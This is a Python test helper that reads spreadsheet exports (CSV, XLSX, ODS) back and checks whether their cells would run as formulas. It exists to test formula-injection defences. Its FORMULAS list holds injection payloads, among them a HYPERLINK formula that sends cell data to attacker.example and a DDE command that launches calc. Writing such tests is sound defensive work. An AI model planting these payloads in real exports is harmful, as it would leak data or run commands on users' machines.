"""Reading downloads back as a spreadsheet would, for the export tests: every cell of a CSV,
XLSX (openpyxl) or ODS (odfpy) file, and whether a spreadsheet would run any of them."""

import csv
import io
from dataclasses import dataclass, field

import openpyxl
from odf import teletype
from odf.opendocument import load
from odf.table import Table, TableCell, TableRow
from odf.text import P

from crimeplan.core.exports import FORMULA_PREFIXES, NEUTRALISER, PLAIN_NUMBER

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1+1",
]

HYPERLINK = FORMULAS[0]


@dataclass(frozen=True)
class Download:
    """For the downloads test (test_downloads.py): who fetches the download, with which URL
    arguments and query strings (each is fetched in every format), and whether the planted
    formulas are among its cells. An app plants its own downloads' formulas in
    `DOWNLOAD_PLANTS` of its `tests/permission_rows.py` (url name -> f(world) -> Download)."""

    viewer: str
    kwargs: dict[str, object] = field(default_factory=dict)
    queries: tuple[dict[str, str], ...] = ({},)
    carries_formulas: bool = True
    # How a cell the planted formula arrives in begins (some fields hold fewer characters).
    planted: tuple[str, ...] = (HYPERLINK,)
    # A download the public fetches is published data, which says its source, as-at date and
    # licence; False only for one that is not data (a blank template to fill in).
    is_publication: bool = True


@dataclass(frozen=True)
class Cell:
    text: str
    kind: str  # "s"/"n"/"b"/"f" for XLSX (openpyxl's data_type); the value type for ODS
    formula: bool


def csv_cells(content: bytes) -> list[Cell]:
    rows = csv.reader(io.StringIO(content.decode("utf-8"), newline=""))
    return [Cell(text, "s", csv_runs(text)) for row in rows for text in row]


def csv_runs(text: str) -> bool:
    """Whether a spreadsheet opening the CSV would take this cell for a formula."""
    return text.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(text)


def csv_original(text: str) -> str:
    """The text as written, before the neutralising apostrophe (if the writer added one)."""
    if text.startswith(NEUTRALISER) and csv_runs(text[1:]):
        return text[1:]
    return text


def xlsx_cells(content: bytes) -> list[Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        Cell("" if cell.value is None else str(cell.value), cell.data_type, cell.data_type == "f")
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def ods_cells(content: bytes) -> list[Cell]:
    document = load(io.BytesIO(content))
    cells = []
    for table in document.spreadsheet.getElementsByType(Table):
        for row in table.getElementsByType(TableRow):
            for cell in row.getElementsByType(TableCell):
                text = "\n".join(teletype.extractText(p) for p in cell.getElementsByType(P))
                formula = bool(cell.getAttribute("formula"))
                cells.append(Cell(text, cell.getAttribute("valuetype") or "", formula))
    return cells


READERS = {"csv": csv_cells, "xlsx": xlsx_cells, "ods": ods_cells}
